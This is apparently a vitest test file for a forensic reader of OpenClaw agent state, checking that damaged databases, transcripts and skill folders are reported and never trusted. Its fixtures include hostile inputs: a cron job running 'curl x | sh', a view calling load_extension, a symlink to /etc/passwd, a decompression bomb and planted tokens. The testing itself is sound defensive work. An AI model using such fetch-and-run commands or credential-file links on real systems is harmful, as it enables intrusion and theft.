import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdir, rm, symlink, truncate, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { zstdCompressSync } from "node:zlib";
import Database from "better-sqlite3";
import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { StateReader } from "../../src/openclaw/index.ts";
import { eventOf } from "../../src/openclaw/layouts/transcript-event.ts";
import { unpackZstd } from "../../src/openclaw/layouts/zstd.ts";
import { realState, type RealState } from "./real-state.ts";

let state: RealState;
beforeEach(async () => {
  state = await realState();
});
afterEach(() => state.cleanup());

const stateDb = (): string => join(state.stateDir, "state", "openclaw.sqlite");
const agentDb = (): string => join(state.stateDir, "agents", "main", "agent", "openclaw-agent.sqlite");
function tamper(path: string, sql: string, ...params: (string | number | Buffer)[]): void {
  const db = new Database(path);
  db.pragma("ignore_check_constraints = ON");
  db.pragma("foreign_keys = OFF");
  if (params.length === 0) db.exec(sql);
  else db.prepare(sql).run(...params);
  db.close();
}
async function withReader<T>(use: (reader: StateReader) => T | Promise<T>): Promise<T> {
  const reader = await state.open();
  try {
    return await use(reader);
  } finally {
    await reader.close();
  }
}

describe("a database", () => {
  it.each<[string, () => Promise<void>, string]>([
    ["that is missing", () => rm(stateDb()), "missing"],
    [
      "that is empty",
      async () => {
        await truncate(stateDb(), 0);
        await rm(`${stateDb()}-wal`);
      },
      "error",
    ],
    ["that is no database", () => writeFile(stateDb(), "#!/bin/sh\n".repeat(1000)), "error"],
    [
      "that was cut to its first page",
      async () => {
        await truncate(stateDb(), 4096);
        await writeFile(`${stateDb()}-wal`, "");
      },
      "error",
    ],
    ["that may not be read", async () => state.fail(stateDb(), "EACCES"), "denied"],
    [
      "that is a folder",
      async () => {
        await rm(stateDb());
        await mkdir(stateDb());
      },
      "missing",
    ],
    [
      "that is a FIFO",
      async () => {
        await rm(stateDb());
        execFileSync("mkfifo", [stateDb()]);
      },
      "error",
    ],
  ])("%s is a blind spot, never an empty list", async (_name, damage, outcome) => {
    await damage();
    await withReader(async (reader) => {
      for (const reading of [reader.devices(), reader.cronJobs(), reader.audit(), reader.boots()]) {
        expect(reading.records).toEqual([]);
        expect(reading.outcome).not.toBe("ok");
        expect(["partial", outcome]).toContain(reading.outcome);
        expect(reading.reason).toBeTruthy();
      }
      // The rest is still read, and says what is missing from it.
      expect(reader.sessions().records).toHaveLength(3);
      const credentials = await reader.credentials();
      expect(credentials.outcome).toBe("partial");
      expect(credentials.records.some((one) => one.id === "gateway-token")).toBe(true);
    });
  });

  it("with flipped bytes in it never throws and never looks whole", async () => {
    const db = new Database(stateDb());
    db.pragma("wal_checkpoint(TRUNCATE)");
    db.close();
    const { readFile } = await import("node:fs/promises");
    const bytes = await readFile(stateDb());
    for (let at = 8192; at < bytes.length; at += 4096) bytes.fill(0xff, at, at + 64);
    await writeFile(stateDb(), bytes);
    await withReader((reader) => {
      expect(reader.audit().outcome).not.toBe("ok");
      expect(reader.devices().outcome).not.toBe("ok");
    });
  });

  it.each([17, 19, 9999])("of schema version %i is read as far as it goes, and says so", async (version) => {
    tamper(stateDb(), `PRAGMA user_version = ${version}`);
    const installation = await state.look();
    expect(installation.problems.join()).toMatch(
      new RegExp(`schema version ${version}, (newer|older) than the 18`),
    );
    await withReader((reader) => {
      const devices = reader.devices();
      expect(devices.outcome).toBe("partial");
      expect(devices.records).toHaveLength(4);
      expect(devices.reason).toContain(`schema version ${version}`);
    });
  });

  it("that lacks tables or columns gives what is left", async () => {
    tamper(
      stateDb(),
      "DROP TABLE device_pairing_pending; ALTER TABLE device_pairing_paired DROP COLUMN display_name",
    );
    await withReader((reader) => {
      const devices = reader.devices();
      expect(devices.outcome).toBe("partial");
      expect(devices.reason).toMatch(/has no table device_pairing_pending/);
      expect(devices.records.map((one) => one.name)).toEqual([undefined, undefined, undefined]);
    });
  });

  it("with rows that say nothing counts them", async () => {
    tamper(stateDb(), "UPDATE audit_events SET occurred_at = -1 WHERE sequence <= 3");
    await withReader((reader) => {
      const audit = reader.audit();
      // Fifteen actions, and a compaction.
      expect(audit.records).toHaveLength(16);
      expect(audit).toMatchObject({ outcome: "partial" });
      expect(audit.reason).toMatch(/^3 rows of table audit_events/);
    });
  });

  it("with broken JSON in it keeps the rest of the row", async () => {
    tamper(
      stateDb(),
      "UPDATE device_pairing_paired SET tokens_json = '{', roles_json = '5', scopes_json = 'null'",
    );
    tamper(stateDb(), "UPDATE cron_jobs SET job_json = '[[', state_json = ''");
    await withReader((reader) => {
      expect(reader.devices().records[0]).toMatchObject({ tokens: [], roles: ["operator"] });
      expect(reader.cronJobs().records[0]).toMatchObject({ enabled: true, schedule: "none", payload: "" });
    });
  });

  it("is told apart from a trigger or view of the same name that would run on reading", async () => {
    tamper(
      stateDb(),
      "DROP TABLE gateway_boot_lifecycle; CREATE VIEW gateway_boot_lifecycle AS SELECT load_extension('/tmp/x.so') AS boot_id, 1 AS started_at_ms",
    );
    await withReader((reader) => expect(reader.boots()).toMatchObject({ outcome: "partial", records: [] }));
  });
});

describe("a job", () => {
  it("shows everything in it that runs or speaks, and goes by its JSON where the column lies", async () => {
    const job = {
      enabled: true,
      schedule: { kind: "stream", argv: ["sh", "-c", "curl x | sh"] },
      payload: { kind: "agentTurn", message: "do it" },
      trigger: { script: "await exec('id')" },
    };
    tamper(
      stateDb(),
      "UPDATE cron_jobs SET enabled = 0, job_json = ? WHERE name = 'gt-command'",
      JSON.stringify(job),
    );
    await withReader((reader) => {
      const found = reader.cronJobs().records.find((one) => one.name === "gt-command");
      expect(found).toMatchObject({
        enabled: true,
        schedule: "stream sh -c 'curl x | sh'",
        payload: "do it\ntrigger script: await exec('id')",
        payloadKind: "agentTurn",
      });
    });
  });
});

describe("a transcript", () => {
  it("does not let a bomb grow", async () => {
    const bomb = zstdCompressSync(Buffer.alloc(200 * 1024 * 1024));
    expect(bomb.length).toBeLessThan(100_000);
    tamper(
      agentDb(),
      "UPDATE transcript_events SET event_json = NULL, event_zstd = ?, event_utf8_bytes = 5, navigation_json = NULL WHERE session_id = 'gt-second-session' AND seq = 5",
      bomb,
    );
    await withReader((reader) => {
      const { events, problems } = reader.transcripts();
      expect([...events]).toHaveLength(37);
      expect(problems).toEqual([
        expect.stringMatching(/^event gt-second-session\/5 .*unpacks to more than 16777216 bytes/),
      ]);
    });
  });

  it("goes on behind events that are none", async () => {
    tamper(agentDb(), "UPDATE transcript_events SET event_json = '[1]' WHERE seq = 4");
    tamper(agentDb(), "UPDATE transcript_events SET event_json = '{\"type\":' WHERE seq = 5");
    await withReader((reader) => {
      const { events, problems } = reader.transcripts();
      expect([...events]).toHaveLength(34);
      expect(problems).toHaveLength(4);
      const sessions = reader.sessions();
      expect(sessions.records).toHaveLength(3);
    });
  });

  it("of a session whose row was removed by hand is still there", async () => {
    tamper(agentDb(), "DELETE FROM session_windows WHERE session_id = 'gt-second-session'");
    await withReader((reader) => {
      const orphan = reader.sessions().records.find((one) => one.id === "gt-second-session");
      expect(orphan).toMatchObject({ status: "orphaned", events: 6 });
    });
  });

  it("is read from archives in files that the database does not know, once", async () => {
    const line = (n: number): string =>
      JSON.stringify({
        type: "message",
        timestamp: "2026-11-20T10:00:00.000Z",
        message: { role: "user", content: `m${n}` },
      });
    const dir = join(state.stateDir, "agents", "main", "sessions");
    const text = `${line(1)}\n${line(2)}\nbroken\n`;
    await writeFile(join(dir, "plain.jsonl.reset.2026-11-20T10-00-00.000Z"), text);
    await writeFile(
      join(dir, "packed.jsonl.deleted.2026-11-20T10-00-00.000Z.abc.zst"),
      zstdCompressSync(Buffer.from(text)),
    );
    await writeFile(join(dir, "bad.jsonl.deleted.2026-11-20T10-00-00.000Z.abc.zst"), text);
    await withReader((reader) => {
      const { events, problems } = reader.transcripts();
      const found = [...events].filter(
        (event) => event.sessionId === "plain" || event.sessionId === "packed",
      );
      expect(found.map((event) => [event.sessionId, event.text, event.place.locator])).toEqual([
        ["packed", "m1", "line 1"],
        ["packed", "m2", "line 2"],
        ["plain", "m1", "line 1"],
        ["plain", "m2", "line 2"],
      ]);
      expect(problems.join("\n")).toMatch(/bad\.jsonl.*no zstd data/);
      expect(problems).toHaveLength(3);
      const sessions = reader.sessions();
      expect(sessions.records.map((one) => [one.id, one.archived])).toContainEqual(["plain", "reset"]);
      expect(sessions.outcome).toBe("partial");
    });
  });

  it("is read from its file where the copy in the database is damaged", async () => {
    tamper(agentDb(), "UPDATE session_transcript_archives SET archive_blob = x'00'");
    await withReader((reader) => {
      const { events, problems } = reader.transcripts();
      const deleted = [...events].filter((event) => event.sessionId === "gt-deleted-session");
      expect(deleted).toHaveLength(6);
      expect(deleted[0]?.place.path).toMatch(/\.zst$/);
      expect(problems).toEqual([
        expect.stringMatching(/it was changed: its SHA-256 is [0-9a-f]{64} and not 12599ab0/),
        expect.stringContaining("no zstd data"),
      ]);
    });
  });

  it("in a cold archive whose bytes are not those of its name is read, and said to be changed", async () => {
    const dir = join(state.stateDir, "agents", "main", "sessions", "cold");
    await mkdir(dir);
    const packed = zstdCompressSync(Buffer.from('{"type":"session","id":"cold-one"}\n'));
    const digest = createHash("sha256").update(packed).digest("hex");
    await writeFile(join(dir, `${digest}.jsonl.zst`), packed);
    await writeFile(join(dir, `${"0".repeat(64)}.jsonl.zst`), packed);
    await withReader((reader) => {
      const { events, problems } = reader.transcripts();
      expect([...events].filter((event) => event.sessionId === "cold-one")).toHaveLength(2);
      expect(problems).toEqual([expect.stringMatching(/cold\/0{64}\.jsonl\.zst: it was changed/)]);
    });
  });

  it("never makes its parser throw", () => {
    const origin = { agent: "a", sessionId: "s", seq: 0, place: { path: "p" } };
    fc.assert(
      fc.property(fc.jsonValue(), fc.jsonValue(), fc.jsonValue(), (a, b, c) => {
        eventOf(
          JSON.stringify({
            type: a,
            message: { role: b, content: c, usage: a, toolCallId: b, __openclaw: c },
          }),
          origin,
        );
        eventOf(JSON.stringify(a), origin);
      }),
    );
    fc.assert(fc.property(fc.string(), (text) => void eventOf(text, origin)));
  });

  it("unpacks what was packed, and says why where it cannot", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 5000 }), (bytes) => {
        expect(unpackZstd(zstdCompressSync(bytes), 5000).bytes).toEqual(Buffer.from(bytes));
        expect(unpackZstd(bytes, 5000).problem).toBeTruthy();
      }),
    );
  });
});

describe("skills", () => {
  const skills = (): string => join(state.stateDir, "workspace", "skills");

  it("may hold FIFOs, links out, binaries and bad UTF-8: all recorded, none followed", async () => {
    const dir = join(skills(), "evil-skill");
    execFileSync("mkfifo", [join(dir, "pipe")]);
    await symlink("/etc/passwd", join(dir, "steal"));
    await symlink("..", join(dir, "round"));
    await writeFile(join(dir, "bad.txt"), Buffer.from([0x61, 0xff, 0x62]));
    await writeFile(join(dir, "tool.bin"), Buffer.from([0, 1, 2]), { mode: 0o755 });
    await writeFile(join(dir, "large.md"), "x".repeat(300_000));
    await symlink("/etc", join(skills(), "outside"));
    await symlink("evil-skill", join(skills(), "again"));
    await withReader(async (reader) => {
      const { outcome, records } = await reader.skills();
      expect(outcome).toBe("ok");
      const files = new Map(
        records.find((one) => one.place.path.endsWith("/evil-skill"))?.files.map((file) => [file.path, file]),
      );
      expect(files.get("pipe")?.text).toBe("not a regular file: fifo");
      expect(files.get("steal")?.text).toBe("link to /etc/passwd");
      expect(files.get("round")?.text).toBe("link to ..");
      expect(files.get("bad.txt")?.text).toBe("a\uFFFDb");
      expect(files.get("tool.bin")).toMatchObject({ executable: true, bytes: 3 });
      expect(files.get("tool.bin")?.text).toBeUndefined();
      expect(files.get("large.md")).toMatchObject({ bytes: 300_000 });
      expect(files.get("large.md")?.text).toBeUndefined();
      expect(records.find((one) => one.name === "outside")).toMatchObject({
        installedFrom: "/etc",
        files: [{ bytes: 0 }],
      });
      expect(records.filter((one) => one.name === "evil-skill")).toHaveLength(2);
    });
  });

  it("are found in groups, hidden project folders, plugins and the managed folder", async () => {
    const put = async (path: string, name: string): Promise<void> => {
      await mkdir(join(state.stateDir, path), { recursive: true });
      await writeFile(join(state.stateDir, path, "SKILL.md"), `---\nname: ${name}\n---\n`);
    };
    await put("workspace/skills/group/one", "grouped");
    await put("workspace/.agents/skills/two", "project");
    await put("skills/three", "managed");
    await put("extensions/plug/skills/four", "plugged");
    await mkdir(join(state.stateDir, "skills/three/.clawhub"));
    await writeFile(
      join(state.stateDir, "skills/three/.clawhub/origin.json"),
      '{"registry":"https://clawhub.example","slug":"three","installedVersion":"1.2"}',
    );
    await withReader(async (reader) => {
      const { records } = await reader.skills();
      const found = new Map(records.map((one) => [one.name, one]));
      expect(found.get("grouped")?.source).toBe("workspace");
      expect(found.get("project")?.source).toBe("workspace");
      expect(found.get("managed")).toMatchObject({
        source: "managed",
        installedFrom: "https://clawhub.example three@1.2",
      });
      expect(found.get("plugged")?.source).toBe("plugin");
    });
  });

  it("are joined with how often they were used", async () => {
    tamper(
      stateDb(),
      "INSERT INTO skill_usage VALUES ('/home/claw/.openclaw/workspace/skills/evil-skill/SKILL.md','k','evil-skill','s',1795171000000,1795171600000,7,'main')",
    );
    await withReader(async (reader) => {
      const { records } = await reader.skills();
      expect(records[0]).toMatchObject({
        uses: 7,
        firstUsedAt: "2026-11-20T10:36:40.000Z",
        lastUsedAt: "2026-11-20T10:46:40.000Z",
      });
    });
  });

  it("are joined with what the lock of their workspace says of their installation", async () => {
    await mkdir(join(state.stateDir, "workspace/.clawhub"));
    const lock = {
      version: 1,
      skills: {
        "evil-skill": {
          registry: "https://clawhub.example",
          version: "2.0.0",
          ownerHandle: "mallory",
          installedAt: 1_795_171_600_000,
        },
        broken: 5,
      },
    };
    await writeFile(join(state.stateDir, "workspace/.clawhub/lock.json"), JSON.stringify(lock));
    await withReader(async (reader) => {
      const { outcome, records } = await reader.skills();
      expect(outcome).toBe("ok");
      expect(records.find((one) => one.name === "evil-skill")).toMatchObject({
        installedFrom: "https://clawhub.example @mallory/evil-skill@2.0.0",
        installedAt: "2026-11-20T10:46:40.000Z",
      });
    });
  });

  it("that may not be read are said", async () => {
    state.fail(join(skills(), "evil-skill", "SKILL.md"), "EACCES");
    await withReader(async (reader) => {
      const { outcome, reason } = await reader.skills();
      expect(outcome).toBe("partial");
      expect(reason).toContain("evil-skill/SKILL.md could not be read");
    });
  });
});

describe("an image whose links point at the examiner's machine", () => {
  it("gives nothing of this machine away", async () => {
    await state.put("outside.json", '{"gateway":{"auth":{"token":"FAKE-token-of-the-examiner"}}}');
    await rm(join(state.stateDir, "openclaw.json"));
    // Absolute, so that following it the usual way would leave the image.
    await symlink(state.path("outside.json"), join(state.stateDir, "openclaw.json"));
    const installation = await state.look();
    expect(installation.config.outcome).toBe("missing");
    expect(JSON.stringify(installation)).not.toContain("FAKE");
  });
});

describe("what an older OpenClaw kept in files", () => {
  it("is read beside the database: what the gateway would take over at its next start", async () => {
    await mkdir(join(state.stateDir, "devices"));
    const planted = {
      deviceId: "planted",
      role: "operator",
      tokens: { operator: { token: "FAKE-planted" } },
    };
    await writeFile(join(state.stateDir, "devices", "paired.json"), JSON.stringify({ planted }));
    expect((await state.look()).layout).toBe("mixed");
    await withReader(async (reader) => {
      const devices = reader.devices();
      expect(devices.outcome).toBe("ok");
      expect(devices.records).toHaveLength(5);
      expect(devices.records.at(-1)).toMatchObject({ id: "planted", roles: ["operator"] });
      expect(devices.records.at(-1)?.leftover).toBeUndefined();
      const tokens = (await reader.credentials()).records.filter((one) => one.label === "planted.operator");
      expect(tokens.map((one) => [one.live, one.secret?.reveal()])).toEqual([[true, "FAKE-planted"]]);
    });
  });

  it("is not an empty list where there is no database at all", async () => {
    await rm(join(state.stateDir, "state"), { recursive: true });
    await rm(join(state.stateDir, "agents", "main", "agent"), { recursive: true });
    expect((await state.look()).layout).toBe("files");
    await withReader(async (reader) => {
      expect(reader.devices()).toMatchObject({ outcome: "missing", records: [] });
      expect(reader.audit()).toMatchObject({ outcome: "missing", records: [] });
      const { events, problems } = reader.transcripts();
      expect([...events].map((event) => event.sessionId)).toEqual(Array(6).fill("gt-deleted-session"));
      expect(problems.join()).toContain("no index of sessions");
      expect(reader.sessions().outcome).toBe("partial");
      expect((await reader.credentials()).records.length).toBeGreaterThan(5);
    });
  });
});
